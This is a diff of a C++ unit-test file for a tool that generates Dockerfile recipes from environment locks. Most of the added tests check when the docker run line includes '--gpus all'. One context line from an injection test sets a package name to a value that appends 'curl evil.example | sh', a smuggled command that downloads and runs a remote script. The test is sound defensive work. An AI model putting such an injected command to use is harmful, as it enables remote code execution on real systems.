@@ -173,6 +173,66 @@ TEST(RecipeTest, DistributionPackagesOverrideTheCudaImageOfAnotherDistribution) 
   EXPECT_NE(u.files[0].contents.find("python3-torch=1.13.1+dfsg-4"), std::string::npos);
 }
 
+// The `# Run:` line of a recipe's Dockerfile.
+std::string RunLine(const Recipe& r) {
+  const std::string& docker = r.files.at(0).contents;
+  auto at = docker.find("# Run:   ");
+  if (at == std::string::npos) return "";
+  return docker.substr(at, docker.find('\n', at) - at);
+}
+
+TEST(RecipeTest, DockerRunPassesTheGpusWheneverTheLockUsesCuda) {
+  // The nvidia/cuda image.
+  Recipe cuda_image = MakeRecipe(GpuMachineLock(), {}, BuiltinCudaImages());
+  ASSERT_TRUE(cuda_image.base.cuda);
+  EXPECT_EQ(RunLine(cuda_image), "# Run:   docker run --rm -it --gpus all team-env");
+
+  // Debian's python3-torch-cuda on debian:12: no CUDA in the image, torch is a CUDA build.
+  Lock debian_cuda = DebianSystemLock();
+  debian_cuda.gpus.clear();
+  debian_cuda.python->frameworks.front().cuda_build = true;
+  debian_cuda.python->frameworks.front().cuda_version = "12.4";
+  FindPackage(debian_cuda, "torch")->distro_package = "python3-torch-cuda";
+  RecipeOptions jupyter;
+  jupyter.jupyter = true;
+  Recipe r = MakeRecipe(Rehash(debian_cuda), jupyter, BuiltinCudaImages());
+  ASSERT_EQ(r.base.image, "debian:12");
+  ASSERT_FALSE(r.base.cuda);
+  EXPECT_EQ(RunLine(r), "# Run:   docker run --rm -it --gpus all -p 8888:8888 team-env");
+  EXPECT_NE(r.files[0].contents.find("#        --gpus all: torch is a CUDA build;"), std::string::npos)
+      << r.files[0].contents;
+
+  // pip's CUDA wheel of torch (it carries its own CUDA libraries) over Debian's numpy: the
+  // distribution's image, so no CUDA in it either.
+  Lock pip_cuda = DebianSystemLock();
+  pip_cuda.gpus.clear();
+  auto* torch = FindPackage(pip_cuda, "torch");
+  *torch = {"torch", "2.3.1+cu121", "pip", std::nullopt};
+  pip_cuda.python->packages.push_back({"nvidia-cublas-cu12", "12.1.3.1", "pip", std::nullopt});
+  auto& f = pip_cuda.python->frameworks.front();
+  f.version = "2.3.1+cu121";
+  f.cuda_build = true;
+  f.cuda_version = "12.1";
+  Recipe p = MakeRecipe(Rehash(pip_cuda), {}, BuiltinCudaImages());
+  ASSERT_EQ(p.base.image, "debian:12");
+  EXPECT_EQ(RunLine(p), "# Run:   docker run --rm -it --gpus all team-env");
+
+  // CPU-only torch, but the locked machine had GPUs: the container should see them too.
+  Lock cpu_on_gpus = DebianSystemLock();
+  ASSERT_FALSE(cpu_on_gpus.gpus.empty());
+  Recipe g = MakeRecipe(cpu_on_gpus, {}, BuiltinCudaImages());
+  EXPECT_EQ(RunLine(g), "# Run:   docker run --rm -it --gpus all team-env");
+  EXPECT_NE(g.files[0].contents.find("--gpus all: the locked machine had GPUs"), std::string::npos);
+
+  // CPU-only, no GPUs: nothing to pass.
+  Lock cpu = DebianSystemLock();
+  cpu.gpus.clear();
+  cpu.driver = {};
+  Recipe c = MakeRecipe(Rehash(cpu), {}, BuiltinCudaImages());
+  EXPECT_EQ(RunLine(c), "# Run:   docker run --rm -it team-env");
+  EXPECT_EQ(c.files[0].contents.find("--gpus"), std::string::npos);
+}
+
 TEST(RecipeTest, HostileDistroFieldsNeverReachTheShell) {
   Lock lock = DebianSystemLock();
   FindPackage(lock, "numpy")->distro_package = "python3-numpy; curl evil.example | sh";
